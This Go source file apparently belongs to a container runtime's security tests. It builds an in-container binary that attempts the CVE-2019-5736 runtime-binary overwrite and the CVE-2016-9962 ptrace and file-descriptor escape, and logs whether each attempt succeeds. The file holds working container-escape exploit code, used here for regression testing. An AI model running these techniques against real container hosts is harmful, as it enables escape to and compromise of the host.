// Command attacker is the in-container half of the security tests in
// tests/security. It is built statically (CGO_ENABLED=0) and copied into each
// malicious bundle's rootfs. It only observes and attempts; every attempt and
// its outcome is appended to a log file the test reads from the host.
//
//	attacker exe    SECONDS LOG   CVE-2019-5736: grab /proc/<pid>/exe of any runtime process, write it
//	attacker ptrace SECONDS LOG   CVE-2016-9962: attach to / open fds of any new runtime process
package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 4 {
		fmt.Fprintln(os.Stderr, "usage: attacker exe|ptrace SECONDS LOG")
		os.Exit(2)
	}
	secs, err := strconv.Atoi(os.Args[2])
	if err != nil {
		fmt.Fprintln(os.Stderr, "attacker: bad seconds:", err)
		os.Exit(2)
	}
	log, err := os.OpenFile(os.Args[3], os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(2)
	}
	defer log.Close()
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	switch os.Args[1] {
	case "exe":
		exeAttack(log, deadline)
	case "ptrace":
		ptraceAttack(log, deadline)
	default:
		fmt.Fprintln(os.Stderr, "attacker: unknown mode", os.Args[1])
		os.Exit(2)
	}
	fmt.Fprintln(log, "DONE")
}

type fileID struct{ dev, ino uint64 }

func idOf(path string) fileID {
	var st unix.Stat_t
	if unix.Stat(path, &st) != nil {
		return fileID{}
	}
	return fileID{st.Dev, st.Ino}
}

func fdID(fd int) fileID {
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil {
		return fileID{}
	}
	return fileID{st.Dev, st.Ino}
}

// containerBinaries are the executables that belong to the image: whatever
// else a process runs is the runtime.
func containerBinaries() map[fileID]bool {
	return map[fileID]bool{idOf("/proc/self/exe"): true, idOf("/bin/busybox"): true}
}

func pids() []int {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	self := os.Getpid()
	var out []int
	for _, n := range names {
		if p, err := strconv.Atoi(n); err == nil && p != self {
			out = append(out, p)
		}
	}
	return out
}

func errName(err error) string {
	if err == nil {
		return "ok"
	}
	if e, ok := err.(unix.Errno); ok {
		return unix.ErrnoName(e)
	}
	return err.Error()
}

// exeAttack is the CVE-2019-5736 exploit: keep an O_PATH handle on the
// executable of every runtime process that shows up in the container, and
// reopen it for writing through /proc/self/fd as soon as nothing executes it
// any more (ETXTBSY until then). A success overwrites the start of the file.
func exeAttack(log *os.File, deadline time.Time) {
	mine := containerBinaries()
	held := map[fileID]int{}
	done := map[fileID]bool{}
	denied := map[string]int{}
	for time.Now().Before(deadline) && !stopRequested(log) {
		for _, pid := range pids() {
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				denied[errName(err)]++
				continue
			}
			id := fdID(fd)
			if mine[id] || held[id] != 0 || done[id] || id == (fileID{}) {
				unix.Close(fd)
				continue
			}
			target, _ := os.Readlink(exe)
			fmt.Fprintf(log, "SEEN pid=%d exe=%q dev=%d ino=%d\n", pid, target, id.dev, id.ino)
			wfd, err := unix.Open(exe, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			fmt.Fprintf(log, "DIRECT-OPEN-WRONLY pid=%d %s\n", pid, errName(err))
			if err == nil {
				writeMarker(log, wfd, "direct")
			}
			held[id] = fd
		}
		for id, fd := range held {
			wfd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == unix.ETXTBSY {
				continue
			}
			fmt.Fprintf(log, "REOPEN-WRONLY dev=%d ino=%d %s\n", id.dev, id.ino, errName(err))
			if err == nil {
				writeMarker(log, wfd, "reopen")
			}
			unix.Close(fd)
			delete(held, id)
			done[id] = true
		}
		time.Sleep(500 * time.Microsecond)
	}
	for id := range held {
		fmt.Fprintf(log, "STILL-BUSY dev=%d ino=%d\n", id.dev, id.ino)
	}
	for e, n := range denied {
		fmt.Fprintf(log, "EXE-OPEN-DENIED %s x%d\n", e, n)
	}
}

func writeMarker(log *os.File, fd int, how string) {
	_, err := unix.Pwrite(fd, []byte("PWNED-CVE-2019-5736"), 0)
	fmt.Fprintf(log, "WROTE %s %s\n", how, errName(err))
	unix.Close(fd)
}

// ptraceAttack is the CVE-2016-9962 exploit: every process that appears in
// the pid namespace while it runs and is not (yet) running an image binary is
// the runtime's init; attach to it and open its fds.
func ptraceAttack(log *os.File, deadline time.Time) {
	runtime.LockOSThread()
	mine := containerBinaries()
	old := map[int]bool{}
	for _, p := range pids() {
		old[p] = true
	}
	classify := func(pid int) kind { return classifyPid(pid, mine) }
	counts := map[string]int{}
	seen := map[int]bool{}
	attached := map[int]bool{}
	printed := map[string]bool{}
	for time.Now().Before(deadline) && !stopRequested(log) {
		for _, pid := range pids() {
			if old[pid] {
				continue
			}
			if !seen[pid] {
				seen[pid] = true
				comm, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
				fmt.Fprintf(log, "NEW pid=%d comm=%q\n", pid, strings.TrimSpace(string(comm)))
			}
			switch classify(pid) {
			case kindContainer:
				counts["skip-container-binary"]++
				continue
			case kindUnknown:
				counts["skip-unknown"]++
				continue
			}
			tryFds(log, pid, classify, counts, printed)
			if !attached[pid] {
				attached[pid] = true
				tryAttach(log, pid, classify, counts)
			}
		}
		time.Sleep(200 * time.Microsecond)
	}
	for k, n := range counts {
		fmt.Fprintf(log, "COUNT %s %d\n", k, n)
	}
}

// stopRequested says whether the test created <log>.stop.
func stopRequested(log *os.File) bool {
	_, err := os.Stat(log.Name() + ".stop")
	return err == nil
}

type kind int

const (
	kindUnknown   kind = iota // gone, exiting (no mm), or a kernel thread
	kindContainer             // runs an image binary: fair game
	kindRuntime               // runs anything else, or hides its exe (non-dumpable)
)

func classifyPid(pid int, mine map[fileID]bool) kind {
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
	switch {
	case err == unix.EACCES || err == unix.EPERM:
		return kindRuntime
	case err != nil:
		return kindUnknown
	}
	defer unix.Close(fd)
	if mine[fdID(fd)] {
		return kindContainer
	}
	return kindRuntime
}

func tryFds(log *os.File, pid int, classify func(int) kind, counts map[string]int, printed map[string]bool) {
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	d, err := os.Open(dir)
	if err != nil {
		counts["fd-dir-"+errName(unwrap(err))]++
		return
	}
	names, err := d.Readdirnames(-1)
	d.Close()
	if err != nil {
		counts["fd-list-"+errName(unwrap(err))]++
		return
	}
	for _, n := range names {
		p := dir + "/" + n
		target, _ := os.Readlink(p)
		fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			counts["fd-open-"+errName(err)]++
			continue
		}
		// A path that does not name the same file from inside the container
		// is a file of the host's that the container could not reach itself.
		outside := strings.HasPrefix(target, "/") && idOf(target) != fdID(fd)
		what := "other"
		var st unix.Stat_t
		if unix.Fstat(fd, &st) == nil {
			switch st.Mode & unix.S_IFMT {
			case unix.S_IFDIR:
				what = "dir"
			case unix.S_IFREG:
				what = "file"
			case unix.S_IFCHR:
				what = fmt.Sprintf("chr-%d:%d", unix.Major(st.Rdev), unix.Minor(st.Rdev))
			}
		}
		unix.Close(fd)
		// Opened; it only counts if the process was still the runtime afterwards.
		if k := classify(pid); k != kindRuntime {
			counts[fmt.Sprintf("fd-opened-but-now-kind-%d", k)]++
			continue
		}
		line := fmt.Sprintf("RUNTIME-FD-OPENED pid=%d fd=%s outside=%t kind=%s target=%q", pid, n, outside, what, target)
		if !printed[line] {
			printed[line] = true
			fmt.Fprintln(log, line)
		}
	}
}

// tryAttach uses PTRACE_SEIZE + PTRACE_INTERRUPT rather than PTRACE_ATTACH:
// the latter's SIGSTOP group-stops every thread of a Go runtime while only
// the leader is traced, and detaching leaves the others stopped, wedging it.
func tryAttach(log *os.File, pid int, classify func(int) kind, counts map[string]int) {
	if _, _, e := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); e != 0 {
		counts["attach-"+errName(e)]++
		return
	}
	if _, _, e := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, uintptr(pid), 0, 0, 0, 0); e == 0 {
		var ws unix.WaitStatus
		unix.Wait4(pid, &ws, unix.WALL, nil)
	}
	// Stopped now; as its tracer we may read its exe whatever its dumpable flag.
	exe, _ := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
	if k := classify(pid); k != kindRuntime {
		counts[fmt.Sprintf("attached-but-now-kind-%d", k)]++
	} else {
		fmt.Fprintf(log, "RUNTIME-ATTACHED pid=%d exe=%q\n", pid, exe)
	}
	unix.PtraceDetach(pid)
}

func unwrap(err error) error {
	if pe, ok := err.(*os.PathError); ok {
		return pe.Err
	}
	return err
}
